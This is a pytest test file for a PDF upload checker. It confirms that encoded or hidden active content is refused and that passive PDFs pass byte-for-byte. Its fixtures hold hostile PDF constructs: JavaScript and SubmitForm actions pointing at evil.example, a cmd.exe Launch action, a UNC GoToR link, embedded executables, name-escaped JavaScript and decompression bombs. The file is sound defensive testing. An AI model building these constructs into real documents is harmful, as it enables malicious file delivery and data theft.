"""PDF upload check (issue 11): active content is found whatever the encoding, bombs are cheap.

Every file in ``HIDDEN`` passed the byte-pattern checker this replaced: the active part sits in
an object stream encoded with ``/ASCIIHexDecode`` or ``[/ASCII85Decode /FlateDecode]``, in an
incremental update, or is a kind of action that checker did not know.
"""

from __future__ import annotations

import time

import pytest

from chat_widget.files import CheckedFile, FileRejected, UploadLimits, check_upload
from tests.unit.files import samples

LIMITS = UploadLimits(max_bytes=15 * 1024 * 1024)
# Past chat_widget.files.pdf's bounds (MAX_DEPTH 48, MAX_OBJECTS 30,000, MAX_VALUES 1,000,000); the nesting stays
# within qpdf's own parser limit, so our walk is what refuses it.
DEEP = 60
MANY_OBJECTS = 30_010
HEX = (b"/ASCIIHexDecode",)
A85_FLATE = (b"/ASCII85Decode", b"/FlateDecode")
JS = b"<< /S /JavaScript /JS (app.launchURL('https://evil.example')) >>"


def _annot(subtype: bytes, extra: bytes = b"") -> dict[str, object]:
    return {
        "page_extra": b"/Annots [4 0 R] ",
        "objects": [
            b"<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 10 10] " + extra + b">>"
        ],
    }


HIDDEN: dict[str, dict[str, object]] = {
    "open_action_js_in_hex_object_stream": {
        "extra_catalog": b"/OpenAction " + JS + b" ",
        "packed": HEX,
    },
    "open_action_js_in_ascii85_flate_object_stream": {
        "extra_catalog": b"/OpenAction " + JS + b" ",
        "packed": A85_FLATE,
    },
    "name_escaped_js_in_hex_object_stream": {
        "extra_catalog": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ",
        "packed": HEX,
    },
    "indirect_js_action_in_ascii85_flate_object_stream": {
        "extra_catalog": b"/OpenAction 4 0 R ",
        "objects": [JS],
        "packed": A85_FLATE,
    },
    "page_additional_action_js": {
        "page_extra": b"/AA << /O " + JS + b" >> ",
        "packed": HEX,
    },
    "annotation_additional_action_js": {
        **_annot(b"/Link", b"/AA << /E " + JS + b" >> "),
        "packed": A85_FLATE,
    },
    "form_field_keystroke_js": {
        "extra_catalog": b"/AcroForm << /Fields [4 0 R] >> ",
        "objects": [b"<< /FT /Tx /T (amount) /AA << /K " + JS + b" >> >>"],
        "packed": HEX,
    },
    "javascript_name_tree": {
        "extra_catalog": b"/Names << /JavaScript 4 0 R >> ",
        "objects": [b"<< /Names [(init) " + JS + b"] >>"],
        "packed": A85_FLATE,
    },
    "launch_action": {
        "extra_catalog": b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> ",
        "packed": HEX,
    },
    "embedded_files_name_tree": {
        "extra_catalog": b"/Names << /EmbeddedFiles 5 0 R >> ",
        "streams": [b"MZ\x90\x00 not really a program"],
        "objects": [
            b"<< /Names [(claim.exe) 6 0 R] >>",
            b"<< /Type /Filespec /F (claim.exe) /EF << /F 4 0 R >> >>",
        ],
        "packed": A85_FLATE,
    },
    "file_attachment_annotation": {
        **_annot(b"/FileAttachment", b"/FS << /Type /Filespec /F (invoice.exe) >> "),
        "packed": HEX,
    },
    "rich_media_annotation": {**_annot(b"/RichMedia"), "packed": A85_FLATE},
    "three_d_annotation": {**_annot(b"/3D"), "packed": HEX},
    "xfa_form": {
        "extra_catalog": b"/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >> ",
        "packed": A85_FLATE,
    },
    "submit_form_action": {
        **_annot(b"/Link", b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >> "),
        "packed": HEX,
    },
    "import_data_action": {
        "extra_catalog": b"/OpenAction << /S /ImportData /F (answers.fdf) >> ",
        "packed": A85_FLATE,
    },
    "go_to_remote_file_action": {
        "extra_catalog": b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> ",
        "packed": HEX,
    },
    "javascript_uri_link": {
        **_annot(b"/Link", b"/A << /S /URI /URI (javascript:alert(1)) >> "),
        "packed": A85_FLATE,
    },
    "incremental_update_adds_open_action": {
        "update": b"/OpenAction 100 0 R ",
        "update_objects": [JS],
        "update_packed": A85_FLATE,
    },
    "incremental_update_over_packed_file": {
        "packed": HEX,
        "update": b"/OpenAction << /S /J#61vaScript /JS (x) >> ",
        "update_packed": HEX,
    },
}


def _rejected(data: bytes) -> FileRejected:
    with pytest.raises(FileRejected) as info:
        check_upload(data, filename="claim.pdf", limits=LIMITS)
    return info.value


@pytest.mark.parametrize("case", sorted(HIDDEN))
def test_hidden_active_content_is_refused(case: str) -> None:
    data = samples.pdf(**HIDDEN[case])  # type: ignore[arg-type]
    error = _rejected(data)
    assert error.code == "pdf_active_content"
    assert "claim.pdf" in error.message("nl")


@pytest.mark.parametrize(
    "data",
    [
        samples.pdf(packed=HEX),
        samples.pdf(packed=A85_FLATE),
        samples.pdf(update=b"/PageMode /UseOutlines ", update_packed=A85_FLATE),
        samples.pdf(**_annot(b"/Link", b"/A << /S /URI /URI (https://www.bank.be/help) >> ")),  # type: ignore[arg-type]
        samples.pdf(b"/Names << /Dests 4 0 R >> ", objects=[b"<< /Names [(p1) [3 0 R /Fit]] >>"]),
        samples.pdf_document(),
        samples.pdf_scan(),
    ],
    ids=["hex", "a85-flate", "update", "uri-link", "dests-tree", "pikepdf-document", "scan"],
)
def test_passive_pdfs_are_accepted_byte_for_byte(data: bytes) -> None:
    out = check_upload(data, filename="statement.pdf", limits=LIMITS)
    assert isinstance(out, CheckedFile) and out.data == data
    assert out.content_type == "application/pdf"


@pytest.mark.parametrize("user_password", ["", "1234"])
def test_encrypted_pdfs_have_their_own_code(user_password: str) -> None:
    assert _rejected(samples.pdf_encrypted(user_password)).code == "pdf_encrypted"


def test_damaged_cross_reference_table_is_corrupt_not_repaired() -> None:
    clean = samples.pdf()
    offset = clean.index(b"3 0 obj")
    data = clean.replace(b"%010d 00000 n" % offset, b"%010d 00000 n" % (offset + 7))
    assert data != clean and len(data) == len(clean)
    assert _rejected(data).code == "pdf_corrupt"


def test_undecodable_object_stream_is_corrupt() -> None:
    data = samples.pdf(packed=HEX)
    start = data.index(b"stream\n") + len(b"stream\n")
    broken = data[:start] + b"ZZ" + data[start + 2 :]
    assert _rejected(broken).code == "pdf_corrupt"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("nested 5000 deep", samples.pdf(objects=[b"[" * 5000 + b"]" * 5000])),
        (
            "nested past our bound, within qpdf's",
            samples.pdf(objects=[b"<< /A " * DEEP + b">> " * DEEP]),
        ),
        (
            "nested in an object stream",
            samples.pdf(objects=[b"[" * 5000 + b"]" * 5000], packed=A85_FLATE),
        ),
        (
            "too many objects",
            samples.pdf(objects=[b"null"] * MANY_OBJECTS, packed=(b"/FlateDecode",)),
        ),
        ("one huge array", samples.pdf(objects=[b"[" + b"0 " * 1_200_000 + b"]"])),
        (
            "object stream inflating to 40 MB",
            samples.pdf(packed=(b"/FlateDecode",), padding=40 * 1024 * 1024),
        ),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_pdf_bombs_are_refused_quickly(name: str, data: bytes) -> None:
    # CPU seconds of this process, not wall time: what a bomb costs the server, and a figure
    # a machine busy with other work does not inflate.
    assert len(data) < LIMITS.max_bytes
    started = time.process_time()
    assert _rejected(data).code == "pdf_corrupt", name
    assert time.process_time() - started < 2.0, name


def test_ten_megabyte_pdf_is_checked_well_under_a_second() -> None:
    data = samples.pdf_document(pages=11, image_side=900, noise=True)
    assert 9 * 1024 * 1024 < len(data) < LIMITS.max_bytes
    check_upload(data, filename="warm-up.pdf", limits=LIMITS)
    started = time.process_time()
    check_upload(data, filename="big.pdf", limits=LIMITS)
    assert time.process_time() - started < 0.5
